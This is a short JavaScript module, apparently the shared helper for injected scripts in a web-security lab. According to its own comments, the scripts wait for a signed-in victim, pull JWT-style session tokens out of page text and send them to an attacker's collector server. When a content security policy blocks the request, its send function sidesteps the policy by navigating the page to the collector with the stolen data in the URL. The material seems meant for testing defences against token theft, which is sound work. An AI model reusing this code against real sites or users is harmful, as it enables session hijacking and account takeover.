// What all injected scripts share: they wait for a signed-in victim, look for tokens, and send what they found.

const [, lab, , run] = new URL(import.meta.url).pathname.split("/");
const collector = new URL(`/${lab}/collect/${run}`, import.meta.url);

/** The victim's calls. */
export const base = `/${lab}`;

const TOKEN = /eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/;

/** The first token in a text. */
export const tokenIn = (text) => TOKEN.exec(text)?.[0];

/** A module of the victim's own, in the instance that its page uses. */
export const imported = (path) => import(new URL(path, location.href).href);

/** Waits until the page's session is in this state. */
export const until = (session) =>
  new Promise((resolve) => {
    const look = () => document.body.dataset.session === session && resolve();
    new MutationObserver(look).observe(document.body, { attributes: true });
    look();
  });

/** Sends what was found to the attacker's server; where a policy forbids connections, by leaving for it. */
export async function send(loot, notes = []) {
  const message = JSON.stringify({ loot, notes });
  try {
    await fetch(collector, { method: "POST", body: message });
  } catch {
    location.href = `${collector}?${new URLSearchParams({ message })}`;
  }
}
